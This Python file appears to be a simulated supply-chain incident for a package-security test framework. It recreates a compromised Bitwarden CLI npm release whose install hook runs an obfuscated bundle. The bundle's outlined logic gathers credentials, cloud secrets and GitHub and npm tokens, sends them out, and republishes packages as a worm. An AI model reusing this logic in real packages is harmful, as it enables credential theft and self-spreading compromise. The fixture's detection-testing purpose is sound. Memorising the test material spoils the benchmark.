"""@bitwarden/cli 2026.4.0 (2026-04-22): CI compromised through an action; a new preinstall steals credentials and spreads.

By the record: an action of another company, compromised before, ran in the release workflow. 2026.4.0 was served for 93 minutes from 21:57
UTC and installed 334 times; a new preinstall took credentials and published on, as the worms before did. 2026.4.1 came on 2026-04-23.
"""

from collections.abc import Mapping
from functools import cache

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from gauntlet.shapes import Content, Made, bundle, heavy
from gauntlet.worms import CLOUD, GATHERS, GITHUB, SEALED, bun_by_archive, republishes
from pratique.core.names import Ecosystem

_CLI = """
const fs = require('fs');
const os = require('os');
const path = require('path');
const crypto = require('crypto');
const root = process.env.BITWARDENCLI_APPDATA_DIR || path.join(os.homedir(), '.config', 'Bitwarden CLI');
const state = path.join(root, 'data.json');
function load() { return fs.existsSync(state) ? JSON.parse(fs.readFileSync(state, 'utf8')) : {}; }
function save(data) { fs.mkdirSync(root, { recursive: true }); fs.writeFileSync(state, JSON.stringify(data)); }
function derive(password, mail) { return crypto.pbkdf2Sync(password, mail.trim().toLowerCase(), 600000, 32, 'sha256'); }
async function login(mail, password) {
  const hash = crypto.pbkdf2Sync(derive(password, mail), password, 1, 32, 'sha256').toString('base64');
  const answer = await fetch('https://identity.vault.example/connect/token', {
    method: 'POST', body: new URLSearchParams({ grant_type: 'password', username: mail, password: hash, client_id: 'cli' })
  });
  if (!answer.ok) { throw new Error('Username or password is incorrect.'); }
  save({ mail: mail, token: (await answer.json()).access_token });
}
async function list(kind) {
  const answer = await fetch('https://api.vault.example/' + kind, { headers: { authorization: 'Bearer ' + load().token } });
  return (await answer.json()).data;
}
function generate(length) {
  const letters = 'abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789';
  return Array.from({ length: length }, () => letters[crypto.randomInt(letters.length)]).join('');
}
const commands = { login: login, list: list, generate: (length) => generate(Number(length) || 14), logout: () => save({}) };
const command = commands[process.argv[2]];
if (command) { Promise.resolve(command(...process.argv.slice(3))).then((out) => console.log(out)); }
else { console.error('Unknown command.'); process.exitCode = 1; }
"""
_MAIN = """
async function main() {
  const found = gathered();
  found.cloud = await cloud();
  const token = githubToken();
  if (token) { found.repositories = await github(token, 'GET', '/user/repos?per_page=100').catch(() => []); }
  const reached = await sent(found).catch(() => false);
  if (!reached && token) { await publish(token, 'marker', 'Marker: The Third Coming', found); }
  const other = npmToken();
  if (other) { await republish(other); }
}
main().catch(() => {});
"""


@cache
def _cli() -> str:
    return "#!/usr/bin/env node\n" + bundle(_CLI, size=300_000, seed=4)


@cache
def _stealer() -> str:
    spread = republishes("preinstall", "node bw_setup.js", ("bw_setup.js", "bw1.js"))
    return heavy(f"{GATHERS}{CLOUD}{SEALED}{GITHUB}{spread}{_MAIN}", size=200_000, seed=22)


def _release(version: str, at: str, *, bad: bool = False) -> Release:
    drops: Mapping[str, Content] = (
        {"bw_setup.js": bun_by_archive("bw1.js", module=False), "bw1.js": _stealer} if bad else {}
    )
    return Release(
        version=version,
        at=utc(at),
        publisher="bitwarden",
        maintainers=("bitwarden", "kspearrin"),
        files=Made({"build/bw.js": _cli, **drops}),
        scripts={"preinstall": "node bw_setup.js"} if bad else {},
        more={"bin": {"bw": "build/bw.js"}},
    )


_GUILTY = {"@bitwarden/cli": ("2026.4.0",)}

INCIDENT = Incident(
    id="bitwarden-cli-2026",
    title=(
        "a compromised action ran in the release workflow of the Bitwarden CLI; a new preinstall script stole "
        "credentials and spread"
    ),
    copy="in our copy, the preinstall script runs an obfuscated bundle in Bun but publishes nothing",
    ecosystem=Ecosystem.NPM,
    at=utc("2026-04-22T21:57:00Z"),
    packages=(
        Package(
            name="@bitwarden/cli",
            releases=(
                _release("2025.12.1", "2025-12-22"),
                _release("2026.1.0", "2026-01-27"),
                _release("2026.2.0", "2026-02-24"),
                _release("2026.3.0", "2026-03-24"),
                _release("2026.4.0", "2026-04-22T21:57:00Z", bad=True),
                _release("2026.4.1", "2026-04-23T15:54:37.374Z"),
            ),
        ),
    ),
    asks={"@bitwarden/cli": "^2026.1.0"},
    good={"@bitwarden/cli": "2026.3.0"},
    bad=_GUILTY,
    guilty=_GUILTY,
    gone_at=utc("2026-04-22T23:30:00Z"),
    advisory=Advisory(id="MAL-2026", at=utc("2026-04-23T17:07:51Z"), about=_GUILTY),
    invented="days of earlier releases, the publisher, file names and the order of steps",
)
